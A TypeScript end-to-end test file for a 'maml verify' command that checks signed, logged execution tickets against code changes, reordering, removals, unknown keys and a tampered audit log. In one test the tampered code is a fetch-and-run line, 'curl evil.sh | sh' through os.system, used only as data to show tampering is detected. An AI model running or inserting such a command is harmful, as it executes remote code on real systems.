// `maml verify` end to end on a real document file with tickets signed by a keyring key and logged in a file
// audit log: clean pass, then each kind of breakage reported at its History line with exit 1.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  TransparencyLog,
  ed25519Keygen,
  ed25519NoteSigner,
  ED25519_NOTE_TYPE,
  hashAttributes,
  hashCanonical,
  hashCode,
  signAndLogTicket,
  ticketHistoryLine,
  verifierKey,
} from '../../src/crypto/index.js';
import { FileLogStore, Keyring } from '../../src/keyring/index.js';
import { FIXTURES } from '../helpers/paths.js';
import { runCli } from './capture.js';

const ID = 'urn:uuid:6f1c2a9e-3b7d-4c8e-9a21-5d4e8f0b7c13';
const SOURCES = { bell: 'OPENQASM 3.0;\nqubit[2] q;\nh q[0];\n', post: 'print(maml.inputs["counts"])\n' };

function documentText(historyLines: readonly string[], post = SOURCES.post): string {
  return `---
maml_version: "1.0"
id: "${ID}"
---

## Code_Blocks

\`\`\`qasm {#bell}
${SOURCES.bell}\`\`\`

\`\`\`python {#post needs=bell}
${post}\`\`\`

## History

- 2026-11-21T12:00:00Z: [CREATE] Written by hand.
${historyLines.join('\n')}
`;
}

async function setup() {
  const dir = await mkdtemp(join(tmpdir(), 'maml-verify-'));
  const ring = join(dir, 'ring');
  const keyring = new Keyring(ring);
  await keyring.generate('runner', 'ml-dsa-65');
  const signer = await keyring.signingKey('runner');
  const logPath = join(dir, 'audit.jsonl');
  const log = await TransparencyLog.open(await FileLogStore.open(logPath), 'maml.dev/log/test');
  const lines: string[] = [];
  for (const [i, blockId] of (['bell', 'post'] as const).entries()) {
    const t = await signAndLogTicket(
      {
        docId: ID,
        runId: 'run-1',
        blockId,
        headId: 'head-q',
        inputHash: hashCanonical({}),
        outputHash: hashCanonical({ i }),
        codeHash: hashCode(SOURCES[blockId]),
        startedAt: `2026-11-21T12:01:0${i}Z`,
        durationMs: 5,
        executor: 'test',
        lang: blockId === 'bell' ? 'qasm' : 'python',
        attrsHash: hashAttributes(blockId === 'bell' ? {} : { needs: 'bell' }),
        upstream: blockId === 'bell' ? [] : ['bell'],
      },
      signer,
      log,
    );
    lines.push(ticketHistoryLine(t.compact, `2026-11-21T12:01:0${i}Z`));
  }
  const logKey = ed25519Keygen();
  const checkpoint = log.checkpoint([ed25519NoteSigner('maml.dev/log/test', logKey.secretKey, logKey.publicKey)]);
  await writeFile(join(dir, 'checkpoint'), checkpoint);
  const vkey = verifierKey('maml.dev/log/test', ED25519_NOTE_TYPE, logKey.publicKey);
  return { dir, ring, lines, vkey };
}

const ticketLine = (text: string, n: number): number =>
  text
    .split('\n')
    .findIndex(
      (l, i, all) => l.includes('[TICKET]') && all.slice(0, i).filter((x) => x.includes('[TICKET]')).length === n,
    ) + 1;

test('an intact document verifies against keyring, log and signed checkpoint', async () => {
  const { dir, ring, lines, vkey } = await setup();
  await writeFile(join(dir, 'doc.maml.md'), documentText(lines));
  const args = [
    'verify',
    'doc.maml.md',
    '--keyring',
    ring,
    '--log',
    'audit.jsonl',
    '--checkpoint',
    'checkpoint',
    '--log-key',
    vkey,
  ];
  const r = await runCli(args, dir);
  assert.equal(r.code, 0, r.stdout + r.stderr);
  assert.match(r.stdout, /2 of 2 tickets verified/);
  const json = JSON.parse((await runCli([...args, '--json'], dir)).stdout) as { ok: boolean; verified: number };
  assert.deepEqual([json.ok, json.verified], [true, 2]);
});

test('changed code, reordered and removed History lines, and a tampered log are each reported', async () => {
  const { dir, ring, lines, vkey } = await setup();
  const run = async (text: string, extra: string[] = []) => {
    await writeFile(join(dir, 'doc.maml.md'), text);
    return runCli(['verify', 'doc.maml.md', '--keyring', ring, '--log', 'audit.jsonl', ...extra], dir);
  };
  const changed = documentText(lines, 'import os; os.system("curl evil.sh | sh")\n');
  const r1 = await run(changed);
  assert.equal(r1.code, 1);
  assert.ok(r1.stdout.includes(`doc.maml.md:${ticketLine(changed, 1)}:1 error ticket_code_changed`), r1.stdout);

  const reordered = documentText([lines[1] as string, lines[0] as string]);
  const r2 = await run(reordered);
  assert.equal(r2.code, 1);
  assert.match(r2.stdout, /ticket_out_of_order/);

  const r3 = await run(documentText([lines[0] as string]));
  assert.equal(r3.code, 1);
  assert.match(r3.stdout, /ticket_missing_from_history/);

  await writeFile(join(dir, 'doc.maml.md'), documentText(lines));
  const r5 = await runCli(['verify', 'doc.maml.md', '--keyring', join(dir, 'empty-ring')], dir);
  assert.equal(r5.code, 1);
  assert.match(r5.stdout, /ticket_unknown_key/);

  const logText = await readFile(join(dir, 'audit.jsonl'), 'utf8');
  const rows = logText.trim().split('\n');
  await writeFile(join(dir, 'audit.jsonl'), `${[rows[1], rows[0]].join('\n')}\n`);
  const r6 = await run(documentText(lines), ['--checkpoint', 'checkpoint', '--log-key', vkey]);
  assert.equal(r6.code, 1);
  assert.match(r6.stdout, /audit_log_invalid/);
});

test('a History written with version 1 tickets still verifies, with and without its audit log', async () => {
  const fixture = join(FIXTURES, 'provenance/v1-history');
  const dir = await mkdtemp(join(tmpdir(), 'maml-verify-v1-'));
  await writeFile(join(dir, 'doc.maml.md'), await readFile(join(fixture, 'v1-history.maml.md')));
  const keyring = join(fixture, 'keyring');
  const offline = await runCli(['verify', 'doc.maml.md', '--keyring', keyring], dir);
  assert.equal(offline.code, 0, offline.stdout + offline.stderr);
  assert.match(offline.stdout, /2 of 2 tickets verified, 0 of 1 run record verified \(1 unsigned\)/);
  assert.match(offline.stdout, /warning execute_unsigned/);
  const logged = await runCli(
    ['verify', 'doc.maml.md', '--keyring', keyring, '--log', join(fixture, 'audit-log.jsonl'), '--json'],
    dir,
  );
  assert.equal(logged.code, 0, logged.stdout + logged.stderr);
  const json = JSON.parse(logged.stdout) as { ok: boolean; verified: number; runsUnsigned: number };
  assert.deepEqual([json.ok, json.verified, json.runsUnsigned], [true, 2, 1]);
  // A duplicated version 1 line is caught too, at its own line.
  const text = await readFile(join(dir, 'doc.maml.md'), 'utf8');
  const lines = text.trimEnd().split('\n');
  const ticket = lines.find((l) => l.includes('[TICKET]')) as string;
  await writeFile(join(dir, 'doc.maml.md'), `${text}${ticket}\n`);
  const dup = await runCli(['verify', 'doc.maml.md', '--keyring', keyring], dir);
  assert.equal(dup.code, 1);
  assert.ok(dup.stdout.includes(`doc.maml.md:${lines.length + 1}:1 error ticket_duplicate `), dup.stdout);
});
